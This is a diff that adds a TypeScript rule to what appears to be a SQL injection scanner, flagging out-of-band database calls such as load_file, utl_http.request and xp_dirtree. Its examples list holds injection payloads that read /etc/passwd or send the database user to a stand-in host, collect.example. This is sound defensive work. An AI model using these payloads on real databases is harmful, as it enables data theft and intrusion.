@@ -1,0 +1,81 @@
+import {
+  isQuote,
+  isWordOf,
+  type SqlTokens,
+  skipComments,
+  sqlToken,
+} from '../../grammars/sql/sql-token.ts';
+import { sameWord, sqlWord } from '../../grammars/sql/sql-words.ts';
+import { isStatementEnd } from '../../grammars/sql/statement-parts.ts';
+import { hasAny } from '../../grammars/sql/traits.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { ValueRule } from '../rule.ts';
+import {
+  type Call,
+  isMentioned,
+  outsideClasses,
+  sqlArgument,
+  strongestCall,
+} from './function-call.ts';
+import { outsideTrigger } from './trigger.ts';
+
+/** `load_file('/etc/passwd')`, `utl_http.request('http://x/'||user)`, `xp_dirtree '\\x\a'`. */
+export const outOfBand: ValueRule = {
+  id: 'sqli.out-of-band',
+  category: 'sqli',
+  cwe: 'CWE-89',
+  severity: 'critical',
+  score: confidence.certain,
+  message: 'makes the database read or write a file or reach another machine',
+  trigger: outsideTrigger,
+  judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
+  examples: [
+    "1 union select load_file('/etc/passwd')",
+    "'||utl_http.request('http://collect.example/'||user)||'",
+    "exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'",
+    "1 and pg_read_file('/etc/passwd')='x'",
+  ],
+  lookalikes: [
+    'The xp_cmdshell procedure is off by default.',
+    'load_file and dblink are names of functions',
+    'Call readfile to read a file',
+    "fs.readFile('notes.txt', (err, text) => show(text))",
+    'err := os.WriteFile("notes.txt", data, 0o644)',
+  ],
+};
+
+function scoreOf(call: Call, tokens: SqlTokens): number {
+  if (call.wordClass === sqlWord.serverProcedure) return scoreProcedure(call, tokens);
+  if (isMentioned(call, tokens) || isMethod(call, tokens)) return confidence.hint;
+  const next = skipComments(tokens, call.at + 1);
+  if (tokens.kind[next] === sqlToken.dot)
+    return hasAny(call.expression, sqlArgument) || call.expression.operands > 0
+      ? confidence.certain
+      : confidence.hint;
+  const first = tokens.kind[skipComments(tokens, next + 1)] as number;
+  if (isQuote(first) || first === sqlToken.number) return confidence.certain;
+  return hasAny(call.expression, sqlArgument) ? confidence.certain : confidence.hint;
+}
+
+/** `fs.readFile('a.txt', …)`, `os.WriteFile(…)`: methods; SQLite's READFILE belongs to nothing. */
+function isMethod({ at, before }: Call, { text, kind, start, end }: SqlTokens): boolean {
+  if (before < 1 || kind[before] !== sqlToken.dot) return false;
+  const from = start[at] as number;
+  const to = end[at] as number;
+  return sameWord(text, from, to, 'readfile') || sameWord(text, from, to, 'writefile');
+}
+
+/** SQL names its procedures after EXEC or a database, or gives them a literal. */
+function scoreProcedure(call: Call, tokens: SqlTokens): number {
+  const isExec =
+    isWordOf(tokens, call.before, sqlWord.exec) || tokens.kind[call.before] === sqlToken.dot;
+  const next = skipComments(tokens, call.at + 1);
+  const hasLiteral = isQuote(tokens.kind[next] as number) && tokens.gap[call.at + 1] === 1;
+  if (isExec)
+    return hasLiteral || isStatementEnd(tokens.kind[next] as number)
+      ? confidence.certain
+      : confidence.likely;
+  return hasLiteral && tokens.kind[next] !== sqlToken.backtick
+    ? confidence.strong
+    : confidence.trace;
+}
